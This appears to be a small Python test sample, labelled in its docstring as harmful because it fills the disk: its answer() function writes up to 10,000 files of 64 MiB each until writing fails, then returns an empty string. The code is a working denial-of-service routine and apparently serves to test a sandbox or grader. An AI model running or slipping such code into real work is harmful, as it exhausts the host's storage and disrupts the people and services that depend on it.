"""Writes files until nothing can be written any more.

task: text
harmful: it fills the disk
slow: it writes all that it may
"""

def answer(question=None):
    block = b"x" * (1 << 20)
    for number in range(10_000):
        try:
            with open(f"fill{number}", "wb", buffering=0) as file:
                for _ in range(64):
                    file.write(block)
        except OSError:
            break
    return ""
